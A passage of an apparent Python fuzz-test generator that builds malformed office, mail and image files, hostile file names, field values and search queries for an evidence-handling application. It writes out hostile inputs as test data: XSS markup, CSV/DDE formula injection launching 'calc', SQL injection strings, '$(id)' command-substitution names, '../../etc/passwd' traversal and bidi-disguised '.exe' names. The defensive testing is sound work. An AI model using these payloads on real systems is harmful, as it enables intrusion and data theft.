    odd["message"][(ef.BODY, ef.UNICODE)] = "x"
    streams_odd = ef.build_msg(odd).replace("x".encode("utf-16-le"), b"x")
    yield "utf16-odd-length", streams_odd
    surrogate = ef.msg_parts()
    surrogate["message"][(ef.SUBJECT, ef.BINARY)] = b"\x00\xd8\x00\xd8"
    yield (
        "utf16-lone-surrogates",
        ef.build_msg(surrogate).replace("Depot meeting".encode("utf-16-le"), b"\x00\xd8" * 13),
    )
    rtf = ef.msg_parts()
    del rtf["message"][(ef.BODY, ef.UNICODE)]
    rtf["message"][(ef.RTF_COMPRESSED, ef.BINARY)] = rng.randbytes(200)
    yield "rtf-garbage", ef.build_msg(rtf)
    rtf_size = ef.msg_parts()
    del rtf_size["message"][(ef.BODY, ef.UNICODE)]
    body = ef.rtf_literal(b"{\\rtf1 hello}")
    rtf_size["message"][(ef.RTF_COMPRESSED, ef.BINARY)] = struct.pack("<I", len(body) - 4) + (
        struct.pack("<I", 2**31) + body[8:]
    )
    yield "rtf-huge-declared", ef.build_msg(rtf_size)
    rtf_crc = ef.msg_parts()
    del rtf_crc["message"][(ef.BODY, ef.UNICODE)]
    good = bytearray(ef.rtf_literal(b"{\\rtf1 hello world}"))
    good[12] ^= 0xFF
    rtf_crc["message"][(ef.RTF_COMPRESSED, ef.BINARY)] = bytes(good)
    yield "rtf-bad-crc", ef.build_msg(rtf_crc)
    many = ef.msg_parts()
    many["recipients"] = [ef.recipient(f"R{i}", f"r{i}@example.org", 1) for i in range(700)]
    yield "recipients-700", ef.build_msg(many)
    header_lie = ef.msg_parts()
    data = bytearray(ef.build_msg(header_lie))
    yield "fat-loop", _ole_fat_loop(bytes(data))
    yield "ole-header-garbage", bytes(data[:8]) + rng.randbytes(504) + bytes(data[512:])
    yield "ole-sector-shift", bytes(data[:30]) + struct.pack("<H", 30) + bytes(data[32:])
    html = ef.msg_parts()
    del html["message"][(ef.BODY, ef.UNICODE)]
    html["message"][(ef.BODY_HTML, ef.BINARY)] = b"<script>alert(1)</script>" * 1000
    yield "html-body-script", ef.build_msg(html)
    names = ef.msg_parts()
    names["attachments"] = [ef.attachment("..\\..\\evil\u202efdp.exe"), ef.attachment("CON")]
    yield "attachment-names", ef.build_msg(names)


def _ole_fat_loop(data: bytes) -> bytes:
    """Every FAT entry of the first FAT sector points at sector 0: chains loop."""
    out = bytearray(data)
    first_fat = struct.unpack_from("<I", out, 76)[0]
    start = 512 * (first_fat + 1)
    for pos in range(start + 8, start + 512, 4):
        struct.pack_into("<I", out, pos, 2)
    return bytes(out)


def _msg_cases(rng: random.Random) -> Iterator[Case]:
    for label, data in _msg_variants(rng):
        yield Case(f"cap/msg/{label}", "msg_malformed", "capture", f"{label}.msg", data)


def _misc_file_cases(rng: random.Random) -> Iterator[Case]:
    yield Case("cap/huge/txt-line-2mb", "huge_line", "capture", "one-line.txt", b"A" * (2 * MB))
    yield Case("cap/huge/txt-line-6m", "huge_line", "capture", "over-cap.txt", b"B" * 6_000_000)
    yield Case(
        "cap/huge/csv-cell",
        "huge_line",
        "capture",
        "cell.csv",
        b'a,"' + b"=1+1," * 400_000 + b'"\r\n',
    )
    yield Case(
        "cap/huge/html-line",
        "huge_line",
        "capture",
        "line.html",
        b"<p>" + b"x" * (2 * MB) + b"</p>",
    )
    yield Case(
        "cap/huge/html-deep",
        "huge_line",
        "capture",
        "deep.html",
        b"<div>" * 200_000 + b"deep" + b"</div>" * 200_000,
    )
    for ext in (".txt", ".csv", ".eml", ".html", ".pdf", ".docx", ".xlsx", ".msg", ".png", ".mht"):
        yield Case(
            f"cap/binary/random{ext}",
            "binary_as_text",
            "capture",
            f"random{ext}",
            rng.randbytes(4096),
        )
    yield Case(
        "cap/binary/elf.txt",
        "binary_as_text",
        "capture",
        "program.txt",
        b"\x7fELF\x02\x01\x01" + bytes(57) + rng.randbytes(2000),
    )
    yield Case("cap/binary/nul.txt", "binary_as_text", "capture", "zeros.txt", bytes(10_000))
    yield Case(
        "cap/binary/mz.pdf",
        "binary_as_text",
        "capture",
        "setup.pdf",
        b"MZ\x90\x00" + rng.randbytes(3000),
    )
    yield Case("cap/binary/pdf-as-txt", "binary_as_text", "capture", "notes.txt", base_pdf())
    yield Case("cap/binary/docx-as-pdf", "binary_as_text", "capture", "report.pdf", base_docx())
    yield Case(
        "cap/binary/zip",
        "binary_as_text",
        "capture",
        "archive.docx",
        _zip_with({"readme.txt": b"not an office file"}),
    )
    for label, data in (
        ("utf16le-nobom", "Ada Quill 07700 900123\n".encode("utf-16-le")),
        ("utf16be-bom", "\ufeffAda Quill".encode("utf-16-be")),
        ("utf32", "Ada Quill".encode("utf-32")),
        ("invalid-utf8", b"caf\xc3 \xff\xfe \xed\xa0\x80 surrogate \xf4\x90\x80\x80"),
        ("cp1252", "Café – “quotes” 07700 900123".encode("cp1252")),
        ("gb18030", "中文 测试".encode("gb18030")),
        ("control-chars", bytes(range(32)) * 50),
        ("bidi", "file \u202eexe.txt \u2066x\u2069 \u200b\ufeff".encode()),
        ("bom-only", b"\xef\xbb\xbf"),
        ("crlf-only", b"\r\n" * 10_000),
    ):
        yield Case(f"cap/encoding/{label}", "text_encoding", "capture", f"{label}.txt", data)
    yield Case(
        "cap/image/png-dims",
        "image_malformed",
        "capture",
        "huge-dims.png",
        _png_header(1_000_000, 1_000_000),
    )
    yield Case(
        "cap/image/png-zero", "image_malformed", "capture", "zero-dims.png", _png_header(0, 0)
    )
    png = bytearray(bases()["png"][1])
    png[29:33] = b"\0\0\0\0"
    yield Case("cap/image/png-crc", "image_malformed", "capture", "bad-crc.png", bytes(png))
    jpeg = bytearray(bases()["jpeg"][1])
    sof = jpeg.find(b"\xff\xc0")
    jpeg[sof + 5 : sof + 9] = b"\xff\xff\xff\xff"
    yield Case("cap/image/jpeg-sof", "image_malformed", "capture", "bad-sof.jpg", bytes(jpeg))
    yield Case("cap/image/jpeg-magic", "image_malformed", "capture", "magic.jpg", b"\xff\xd8\xff")
    yield Case("cap/image/gif", "image_malformed", "capture", "picture.png", b"GIF89a" + bytes(100))


def _png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + b"\0\0\0\0IEND\xaeB`\x82"
    )


# --- hostile names -----------------------------------------------------------------------------
def hostile_names() -> list[tuple[str, str]]:
    """(kind, name): file names a Linux file system can hold that are hostile elsewhere."""
    names: list[tuple[str, str]] = []
    for code in range(1, 32):
        names.append(("name_control", f"ctl{code:02x}-{chr(code)}-note.txt"))
    for ch in ("\x7f", "\x80", "\x85", "\x9b", "\x9f"):
        names.append(("name_control", f"c1-{ord(ch):02x}-{ch}.txt"))
    names.append(("name_control", "escape-\x1b[31mred\x1b[0m.txt"))
    names.append(("name_control", "newline\nsecond-line.txt"))
    names.append(("name_control", "carriage\rreturn.txt"))
    for ch in "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        names.append(("name_bidi", f"report{ch}fdp.exe"))
    names += [
        ("name_bidi", "\u202etxt.exe"),
        ("name_bidi", "photo\u202egnp.js"),
        ("name_bidi", "שלום-\u202eevil.txt"),
        ("name_bidi", "تقرير.pdf"),
    ]
    for ch in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164":
        names.append(("name_invisible", f"in{ch}visible.txt"))
    names.append(("name_invisible", "\u200b.txt"))
    names.append(("name_invisible", "\u3000.txt"))
    names += [
        ("name_long", "a" * 251 + ".txt"),
        ("name_long", "é" * 125 + ".txt"),  # 250 bytes of UTF-8
        ("name_long", "名" * 83 + ".txt"),  # 249 bytes
        ("name_long", "🙂" * 62 + ".txt"),  # 248 bytes
        ("name_long", "x" * 240 + "." + "e" * 14),
        ("name_long", "report" + "." * 200 + "pdf"),
        ("name_long", "n" * 255),
    ]
    for device in ("CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "LPT9", "CONIN$", "CONOUT$"):
        names.append(("name_reserved", f"{device}.txt"))
        names.append(("name_reserved", device.lower()))
    names += [
        ("name_reserved", "CON .txt"),
        ("name_reserved", "nul.tar.gz"),
        ("name_reserved", "COM\u00b9.txt"),
        ("name_reserved", "lpt\u00b3"),
        ("name_reserved", "Con.Txt."),
        ("name_reserved", "AUX "),
    ]
    names += [
        ("name_separator", "..\\..\\windows\\system32\\evil.txt"),
        ("name_separator", "C:\\Users\\Public\\evil.txt"),
        ("name_separator", "\\\\server\\share\\evil.txt"),
        ("name_separator", "a\\b.txt"),
        ("name_separator", "ads.txt:hidden:$DATA"),
        ("name_separator", "what?.txt"),
        ("name_separator", "star*.txt"),
        ("name_separator", 'quote".txt'),
        ("name_separator", "pipe|.txt"),
        ("name_separator", "<angle>.txt"),
        ("name_separator", "\u2215fraction-slash\u2215.txt"),
        ("name_separator", "\uff0ffullwidth\uff3c.txt"),
    ]
    names += [
        ("name_odd", "..."),
        ("name_odd", "..hidden"),
        ("name_odd", ".txt"),
        ("name_odd", "trailing-dot."),
        ("name_odd", "trailing-space "),
        ("name_odd", " leading-space.txt"),
        ("name_odd", "-rf.txt"),
        ("name_odd", "--help"),
        ("name_odd", "report.pdf.exe"),
        ("name_odd", "no-extension"),
        ("name_odd", "e\u0301\u0301\u0301\u0301.txt"),
        ("name_odd", "Z\u0335\u0321\u0322a\u0337l\u0338g\u0334o.txt"),
        ("name_odd", "%s%n%x.txt"),
        ("name_odd", "$(id).txt"),
        ("name_odd", "`id`.txt"),
        ("name_odd", '=HYPERLINK("x").txt'),
        ("name_odd", "+cmd.txt"),
        ("name_odd", "@SUM(1).csv"),
        ("name_odd", "<script>alert(1)<\\script>.html"),
        ("name_odd", "&amp;&lt;.txt"),
        ("name_odd", "'; DROP TABLE attachment;--.txt"),
        ("name_odd", "\U0001f4a9.txt"),
        ("name_odd", "\U0010fffd.txt"),
        ("name_odd", "\ufffe\uffff.txt"),
    ]
    for raw in (
        b"bad-\xff\xfe.txt",
        b"latin1-caf\xe9.txt",
        b"\xed\xa0\x80surrogate.txt",
        b"\xc0\xafoverlong.txt",
        b"\x80\x81\x82",
    ):
        names.append(("name_bytes", raw.decode("utf-8", "surrogateescape")))
    return names


def _name_cases() -> Iterator[Case]:
    contents = list(bases().items())
    for i, (kind, name) in enumerate(hostile_names()):
        _fmt, (_, data) = contents[i % len(contents)] if i % 3 == 0 else ("txt", bases()["txt"])
        yield Case(f"cap/name/{i:03d}", kind, "capture", name, data)
        yield Case(f"name/{i:03d}", "export_name", "name", name=name)
    # Names only an export can meet (Linux refuses them as file names): the cleaner must cope.
    only_exports = [
        "a/b.txt", "../../etc/passwd", "/", "nul\x00byte.txt", "x" * 400 + ".pdf", "é" * 300,
        "", " ", ".", "..", "a" * 150 + "." + "b" * 20, "\ud800.txt", "CON",
        "summary\u202efdp.exe",
    ]  # fmt: skip
    for j, name in enumerate(only_exports):
        yield Case(f"name/only/{j:02d}", "export_name", "name", name=name)


def _path_cases() -> Iterator[Case]:
    txt = bases()["txt"][1]
    yield Case(
        "cap/path/deep-300",
        "path_long",
        "capture",
        "note.txt",
        txt,
        subdirs=tuple(f"folder-{i:02d}" + "-" * 20 for i in range(12)),
    )
    yield Case(
        "cap/path/deep-4200",
        "path_long",
        "capture",
        "note.txt",
        txt,
        subdirs=tuple("d" * 200 + f"{i:02d}" for i in range(21)),
    )
    yield Case(
        "cap/path/dotdot",
        "path_long",
        "capture",
        "note.txt",
        txt,
        subdirs=("a", "..", "b", ".", "..", "c"),
    )
    yield Case(
        "cap/path/bidi-folder",
        "path_long",
        "capture",
        "note.txt",
        txt,
        subdirs=("\u202efolder", "ctl\x01\x1b"),
    )
    for special in ("fifo", "folder", "dangling", "loop", "missing", "mtime-future", "mtime-old"):
        yield Case(
            f"cap/special/{special}",
            "special_file",
            "capture",
            f"{special}.txt",
            txt,
            special=special,
        )
    yield Case("cap/special/empty", "special_file", "capture", "empty.pdf", b"")


# --- field values ------------------------------------------------------------------------------
def field_values() -> list[tuple[str, str, str]]:
    """(kind, value, expect)."""
    out: list[tuple[str, str, str]] = []
    for code in [*list(range(1, 32)), 127, 128, 133, 155, 159]:
        out.append(("value_control", f"before{chr(code)}after", "stored"))
    out += [
        ("value_control", "\x1b[2J\x1b[31mred\x1b[0m", "stored"),
        ("value_control", "bell\x07\x07\x07", "stored"),
        ("value_control", "back\x08\x08\x08space", "stored"),
        ("value_control", "form\x0cfeed\x0bvtab", "stored"),
    ]
    out += [
        ("value_nul", "\x00", "refused"),
        ("value_nul", "a\x00b", "refused"),
        ("value_nul", "=1+1\x00", "refused"),
        ("value_nul", "\x00" * 50, "refused"),
    ]
    for ch in "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        out.append(("value_bidi", f"Invoice {ch}gpj.exe 07700 900111", "stored"))
    out += [
        ("value_bidi", "\u202e" * 100 + "nested", "stored"),
        ("value_bidi", "שלום عالم 123 \u202eabc", "stored"),
        ("value_bidi", "\u2067\u202e\u2069unbalanced", "stored"),
    ]
    for ch in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2063":
        out.append(("value_invisible", f"zero{ch}width", "stored"))
    out += [
        ("value_invisible", "\u200b", ""),
        ("value_invisible", "\ufeff\ufeff", ""),
        ("value_invisible", "\u3164\u3164", ""),
    ]
    out += [
        ("value_surrogate", "\ud800", "refused"),
        ("value_surrogate", "lone \udfff low", "refused"),
        ("value_surrogate", "\udc80\udcff escaped bytes", "refused"),
        ("value_surrogate", "half emoji \ud83d", "refused"),
        ("value_surrogate", "\ude00 reversed \ud83d", "refused"),
    ]
    markup = [
        "<script>alert(1)</script>",
        "<b>bold</b> <i>italic</i> <u>u</u> <strike>s</strike>",
        "<font color='red' size='40' face='Courier'>big</font>",
        "<para>para</para><para alignment='center'>x",
        "</para></font></b>",
        "<br/>" * 500,
        "<onDraw name='drawString' label='x'/>",
        "<img src='x' onerror='alert(1)' width='9999' height='9999'/>",
        "<a href='javascript:alert(1)'>link</a>",
        "<link href='file:///etc/passwd'>x</link>",
        "<seq id='x'/><seqreset/>",
        "<greek>abc</greek><super>2</super><sub>3</sub>",
        "<span style='x' backColor='red'>x</span>",
        "&amp; &lt; &gt; &quot; &#39; &#0; &#x202e; &nbsp; &bogus;",
        "& alone & & &&",
        "<",
        ">",
        "<<<<>>>>",
        "<!-- comment",
        "]]><![CDATA[x]]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "%s %d %(name)s %n {0} {name} {{}}",
        "\\n\\r\\t\\x00\\u202e",
        "**bold** _em_ `code` [link](javascript:alert(1)) # heading",
        '<w:t xml:space="preserve">injected</w:t>',
        "</w:t></w:r></w:p><w:p><w:r><w:t>escape",
        '<c r="A1" t="str"><f>1+1</f></c>',
        "<html><body onload=alert(1)>",
        "<style>*{display:none}</style>",
    ]
    out += [("value_markup", v, "stored") for v in markup]
    formulas = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        '=HYPERLINK("http://example.org/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        'DDE("cmd";"/C calc";"x")',
        '=IMPORTXML(CONCAT("http://example.org/?", A1), "//a")',
        '=WEBSERVICE("http://example.org")',
        "+44 7700 900123",
        "-2+3+cmd|' /C calc'!A0",
        "@",
        "=",
        "==",
        "'=1+1",
        "=1+1;=2+2",
        '="=1"',
        "=-=+@",
        "#N/A",
        "#REF!",
        "1E+99",
        "0x41",
        "TRUE",
        "2026-01-01",
    ]
    out += [("value_formula", v, "stored") for v in formulas]
    sql = [
        "'; DROP TABLE task; --",
        '" OR 1=1 --',
        "Robert'); DROP TABLE source;--",
        "' OR ''='",
        "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
        "UNION SELECT key FROM sqlite_master",
        "PRAGMA key = 'x'; PRAGMA rekey = ''",
        "%",
        "_",
        "\\",
        "''''''''",
        "search_index MATCH 'x'",
        "x' AND 1=(SELECT COUNT(*) FROM audit_event) AND 'a'='a",
    ]
    out += [("value_sql", v, "stored") for v in sql]
    unicode_odd = [
        "Nguyễn Thị Hường",
        "Dritë Çela",
        "Wiśniewska Żółkiewska",
        "Коваленко Ірина",
        "👨‍👩‍👧‍👦 family",
        "e" + "\u0301" * 300,
        "Z\u0335\u0321\u0322\u0327a\u0337\u0328l\u0338g\u0334\u031bo",
        "𝕳𝖊𝖑𝖑𝖔 𝟙𝟚𝟛",
        "\ufffe\uffff nonchars",
        "\U0010ffff \U000e0001 tags",
        "ﷺ ﷽",
        "İstanbul ß ﬁ ǅ",
    ]
    out += [("value_unicode", v, "stored") for v in unicode_odd]
    out += [
        ("value_whitespace", "   ", ""),
        ("value_whitespace", "\t\t", ""),
        ("value_whitespace", "\u3000\u2003", ""),
        ("value_whitespace", "line\u2028sep\u2029para\x85nel", "stored"),
        ("value_whitespace", "\r\n\r\nblank lines\r\n\r\n", "stored"),
        ("value_whitespace", "trailing   ", "stored"),
    ]
    return out


# (record, field, max length or 0 when unlimited)
TEXT_FIELDS = [
    ("task", "title", 300),
    ("task", "requester", 200),
    ("task", "research_questions", 20_000),
    ("task", "gaps", 20_000),
    ("task", "tags", 80),
    ("source", "title", 300),
    ("source", "description", 100_000),
    ("source", "reference", 2_000),
    ("source", "handling_conditions", 5_000),
    ("source", "tags", 80),
    ("finding", "text", 50_000),
    ("finding", "tags", 80),
    ("entity", "name", 300),
    ("entity", "notes", 20_000),
    ("justification", "justification", 0),
    ("provenance", "obtained_from", 2_000),
    ("provenance", "exhibit_ref", 100),
]
CHOICE_FIELDS = [
    ("task", "thematic"),
    ("task", "priority"),
    ("task", "marking"),
    ("task", "due_date"),
    ("task", "status"),
    ("source", "source_type"),
    ("source", "evaluation"),
    ("source", "assessment"),
    ("source", "handling"),
    ("source", "obtained_on"),
    ("finding", "phia"),
    ("entity", "kind"),
]
HOSTILE_CHOICES = [
    "<script>",
    "=1+1",
    "\u202eocg",
    "OCG\x00",
    "\ud800",
    "ocg ' OR 1=1",
    "9999-99-99",
    "2026-02-30",
    "99999-01-01",
    "-1",
    "\n",
    "x" * MB,
]


def _field_cases(rng: random.Random) -> Iterator[Case]:
    values = field_values()
    n = 0
    for i, (kind, value, expect) in enumerate(values):
        for k in range(3):  # each value into three different fields
            record, name, limit = TEXT_FIELDS[(i * 3 + k) % len(TEXT_FIELDS)]
            op = "create" if (i + k) % 2 == 0 else "update"
            if record in ("justification", "provenance"):
                op = "create"
            yield Case(
                f"field/{n:04d}",
                kind,
                "field",
                record=record,
                field=name,
                op=op,
                value=value,
                expect=_expect(expect, value, name, limit),
            )
            n += 1
    for record, name, limit in TEXT_FIELDS:
        for label, filler in (("plain", "A"), ("formula", "=1+1,"), ("markup", "<b>&amp;")):
            huge = (filler * (MB // len(filler) + 1))[:MB]
            yield Case(
                f"field/huge/{record}.{name}/{label}",
                "value_huge",
                "field",
                record=record,
                field=name,
                op="create",
                value=huge,
                expect="refused" if limit else "",
            )
        if limit:
            alphabet = "ab<&>\u202e" if name == "tags" else "ab <&>\u202e"  # tags fold spaces
            for size in (limit, limit + 1):
                value = "=" + "".join(rng.choice(alphabet) for _ in range(size - 1))
                value = value[: size - 1] + "z"  # no spaces at the ends: nothing to strip
                yield Case(
                    f"field/bound/{record}.{name}/{size}",
                    "value_boundary",
                    "field",
                    record=record,
                    field=name,
                    op="update" if size % 2 else "create",
                    value=value,
                    expect="stored" if size == limit else "refused",
                )
    for record, name in CHOICE_FIELDS:
        for j, value in enumerate(HOSTILE_CHOICES):
            yield Case(
                f"field/choice/{record}.{name}/{j:02d}",
                "value_choice",
                "field",
                record=record,
                field=name,
                op="create" if j % 2 else "update",
                value=value,
                expect="refused",
            )


def _expect(expect: str, value: str, field_name: str, limit: int) -> str:
    stripped = value.strip()
    if field_name == "tags":
        stripped = " ".join(value.split())
    if expect == "refused":
        return "refused"
    if limit and len(stripped) > limit:
        return "refused"
    return expect


# --- queries -----------------------------------------------------------------------------------
QUERIES = [
    "NEAR(", "NEAR(a b", "NEAR(a b, 5)", "NEAR/3", "a NEAR b", '"', '""', '"""', 'a"b',
    '"unbalanced', 'unbalanced"', "title:x", "body:secret", "extra:ref", "record_type:task",
    "{title body}: x", "{title", "-x", "- x", "NOT x", "x NOT", "x NOT y", "AND", "OR", "NOT",
    "x OR", "OR x", "x AND", "(x", "x)", "()", "(", ")", "*", "**", "* *", "x*", "*x", "x**",
    "^x", "x^", "^", ":", "::", "a:b:c", "+x", "x+y", "\\", "'", "''", "%", "_", "rank:1",
    "rowid=1", "rowid:1", "search_index MATCH x", "x'; DROP TABLE task;--", "\x00", "\x00x",
    "a\x00b", "\t", "\n", "\r\n", " ", "", "\u202e", "\u202eevil", "\u200b", "\ufeff",
    "drite", "DRITË", "\ud800", "a\udcffb", "🙂", "𝕳𝖊𝖑𝖑𝖔", "e\u0301", "\uffff", "<script>",
    "&amp;", "=1+1", "@x", '  "  ', "NEAR", "near(", "Near(", "x AND NOT y", "{", "}", "[",
    "]", "x{title}", "MATCH", "bm25(", "highlight(search_index, 0, 1, 2)", "snippet(",
    "SELECT * FROM task", "a -b", "-", "--", "x:*", '"x" *', '"x"*', "x - y", "x.y", "x/y",
    "07700 900123", "+44 7700 900123", "TX-2026-0001", "TX-2026-0001/S1", "E12", "F1 S1",
    "\x1b[31m", "\u0000\u0001\u0002", "%s%n%x", "$(id)", "`id`", "../../etc/passwd",
]  # fmt: skip


def _search_cases() -> Iterator[Case]:
    n = 0
    for q in QUERIES:
        yield Case(f"search/{n:03d}", "query_syntax", "search", value=q)
        n += 1
    long_ones = [
        "x" * 1000, "x" * 1001, "x " * 600, '"' * 999, "NEAR(" * 300, "a OR " * 400,
        "(" * 1000, "* " * 500, "a" * 100_000, " ".join(f"w{i}" for i in range(40)),
        "col:" * 50, '"' + "a " * 5000 + '"', "\u202e" * 2000, "é" * 50_000, "\x00" * 1000,
        "kestr " * 30 + "kes", "NOT " * 300 + "x",
    ]  # fmt: skip
    for q in long_ones:
        yield Case(f"search/{n:03d}", "query_long", "search", value=q)
        n += 1
    for _kind, value, _ in field_values()[::3]:
        yield Case(f"search/{n:03d}", "query_field_value", "search", value=value)
        n += 1


# --- everything --------------------------------------------------------------------------------
def cases(seed: int = SEED, *, secret: Path | None = None) -> Iterator[Case]:
    """Every case, in a fixed order. ``secret``: the file the XXE cases point at (the runner
    writes ``XXE_SECRET`` into it)."""
    rng = random.Random(seed)
    secret = secret or Path("/nonexistent/toex-xxe-secret.txt")
    groups: list[Callable[[], Iterator[Case]]] = [
        lambda: _truncations(rng),
        lambda: _flips(rng),
        _zip_bombs,
        _broken_xml,
        lambda: _entity_attacks(secret),
        _pdf_cases,
        _mail_cases,
        lambda: _msg_cases(rng),
        lambda: _misc_file_cases(rng),
        _name_cases,
        _path_cases,
        lambda: _field_cases(rng),
        _search_cases,
    ]
    for group in groups:
        yield from group()


KINDS_REQUIRED = (
    # files
    "truncated_pdf", "truncated_docx", "truncated_xlsx", "truncated_eml", "truncated_msg",
    "truncated_html", "truncated_mht", "truncated_png", "truncated_jpeg", "byteflip_pdf",
    "garbled_docx", "zipbomb_declared_docx", "zipbomb_declared_xlsx", "zipbomb_real_docx",
    "zipbomb_real_xlsx", "broken_xml_docx", "broken_xml_xlsx", "billion_laughs", "xxe_docx",
    "xxe_xlsx", "pdf_structure", "eml_malformed", "msg_malformed", "huge_line",
    "binary_as_text", "name_control", "name_bidi", "name_long", "name_reserved",
    "name_separator", "path_long", "special_file",
    # field values
    "value_control", "value_nul", "value_bidi", "value_invisible", "value_surrogate",
    "value_markup", "value_formula", "value_sql", "value_huge", "value_boundary",
    "value_choice",
    # queries and names
    "query_syntax", "query_long", "export_name",
)  # fmt: skip
